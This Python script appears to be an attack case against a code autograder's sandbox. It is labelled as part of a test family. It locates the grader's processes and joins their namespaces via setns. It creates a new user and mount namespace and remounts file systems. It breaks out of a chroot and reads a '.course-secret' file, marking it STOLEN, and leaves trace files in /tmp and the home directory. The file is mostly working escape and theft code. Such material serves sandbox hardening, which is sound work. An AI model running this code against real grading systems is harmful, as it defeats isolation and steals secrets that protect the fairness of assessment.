"""Makes itself root in a new user and mount namespace and mounts there; from it, it joins the grader's namespaces, leaves a chroot and mounts a new /proc.

family: reading
start: solved
"""

# %% first
_done = []


def _achieved(what, stem="escape_by_user_namespace"):
    """Leave a trace of a success, outside if that is possible."""
    import os

    folders = ["/tmp", "/var/tmp", os.path.expanduser("~")]
    try:
        import pwd

        folders.append(pwd.getpwuid(os.getuid()).pw_dir)
    except Exception:
        pass
    for folder in folders:
        try:
            with open(os.path.join(folder, "autograder-attack-" + stem), "a") as file:
                file.write(str(what)[:2000] + "\n")
        except Exception:
            pass
    _done.append(str(what)[:200])


def _report():
    """Say it in the report too: the cell error is carried out."""
    if _done:
        raise AssertionError("ACHIEVED: " + "; ".join(_done[:5]))

def _graders():
    """The grader's own Python processes (ancestors and their children; else those that the command line names), no others."""
    import os

    def read(pid, what):
        try:
            with open(f"/proc/{pid}/{what}", "rb") as file:
                return file.read()
        except OSError:
            return b""

    def argv(pid):
        return [os.fsdecode(part) for part in read(pid, "cmdline").split(b"\0") if part]

    def parent(pid):
        fields = read(pid, "stat").rpartition(b")")[2].split()
        return int(fields[1]) if len(fields) > 1 else 0

    def is_grader(pid, names):
        words = argv(pid)
        if pid <= 2 or pid == os.getpid() or not words or not os.path.basename(words[0]).startswith("python"):
            return False
        return any(word.startswith("autograder.") or os.path.basename(word) in names for word in words[1:4])

    names = {"autograder", "otter", "pytest", "py.test", "ipykernel_launcher"}
    found, pid = [], os.getppid()
    while pid > 2 and pid not in found and is_grader(pid, names):
        found.append(pid)
        pid = parent(pid)
    try:
        others = [int(name) for name in os.listdir("/proc") if name.isdigit()]
    except OSError:
        others = []
    for other in others:
        if other not in found and is_grader(other, names if found else {"autograder"}):
            if not found or parent(other) in found:
                found.append(other)
    return found

import ctypes
import os

_course = os.path.dirname(os.path.dirname(__import__("autograder").__file__))

_libc = ctypes.CDLL(None, use_errno=True)
_read, _write = os.pipe()
_pid = os.fork()
if _pid == 0:
    try:
        for _other in _graders():
            for _kind in ("user", "mnt", "pid", "net"):
                try:
                    _fd = os.open(f"/proc/{_other}/ns/{_kind}", os.O_RDONLY)
                    if os.readlink(f"/proc/{_other}/ns/{_kind}") != os.readlink(f"/proc/self/ns/{_kind}") and _libc.setns(_fd, 0) == 0:
                        os.write(_write, f"joined {_kind} of {_other}; ".encode())
                except OSError:
                    continue
        if _libc.unshare(0x10000000 | 0x00020000) == 0:
            os.write(_write, b"a new user namespace; ")
            if _libc.mount(b"none", b"/", None, 0x4000 | 0x40000, None) == 0 and _libc.mount(b"tmpfs", b"/mnt", b"tmpfs", 0, None) == 0:
                os.write(_write, b"mounted a file system; ")
            os.mkdir("jail")
            _top = os.open(".", os.O_RDONLY)
            os.chroot("jail")
            os.fchdir(_top)
            for _ in range(30):
                os.chdir("..")
            os.chroot(".")
            if os.path.exists(_course + "/.course-secret"):
                with open(_course + "/.course-secret") as _file:
                    os.write(_write, b"STOLEN " + _file.read(70).encode())
    except BaseException:
        pass
    os._exit(0)
os.close(_write)
_said = os.read(_read, 1000).decode()
os.waitpid(_pid, 0)
if _said:
    _achieved(_said)
    raise AssertionError(("STOLEN: " if "STOLEN" in _said else "ACHIEVED: ") + _said)
